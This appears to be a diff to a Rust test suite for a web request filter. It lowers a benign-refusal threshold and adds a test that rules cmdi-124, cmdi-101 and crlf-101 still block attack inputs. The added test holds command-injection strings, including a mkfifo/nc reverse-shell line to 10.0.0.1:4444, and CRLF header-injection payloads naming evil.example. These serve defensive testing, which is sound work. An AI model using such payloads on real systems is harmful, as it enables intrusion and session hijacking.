@@ -32,6 +32,35 @@ fn wild_benign_refusals_stay_under_one_percent() {
         rows.len(),
         rate * 100.0
     );
-    // Measured 1.6% (8 of 499) before any rule change.
-    assert!(rate <= 0.02, "wild benign refused {:.1}%", rate * 100.0);
+    // Measured 1.6% (8 of 499) before tuning; 0.8% (4 of 499) after (cmdi-124, cmdi-101,
+    // crlf-101 tightened by shape). The four left are backquoted / process-substituted
+    // commands and `1=1`: attack shapes that prose can take.
+    assert!(rate <= 0.01, "wild benign refused {:.1}%", rate * 100.0);
+}
+
+/// The rules tightened for this set still block their attack shapes.
+#[test]
+fn tightened_rules_still_block() {
+    common::attack("cmdi-124", "query", "ip", "127.0.0.1;ping`` 127.0.0.1");
+    common::attack("cmdi-124", "query", "ip", "127.0.0.1;pi``ng 127.0.0.1");
+    common::attack(
+        "cmdi-101",
+        "query",
+        "ip",
+        "x;mkfifo /tmp/f;nc 10.0.0.1 4444 </tmp/f",
+    );
+    common::attack("cmdi-101", "json", "cmd", "a|mkfifo -m 600 /tmp/p");
+    common::attack("crlf-101", "query", "next", "/home\r\nHost: evil.example");
+    common::attack(
+        "crlf-101",
+        "query",
+        "next",
+        "/home\r\n Set-Cookie: sid=evil",
+    );
+    common::attack(
+        "crlf-101",
+        "query",
+        "lang",
+        "en\nLink: <https://evil.example>",
+    );
 }
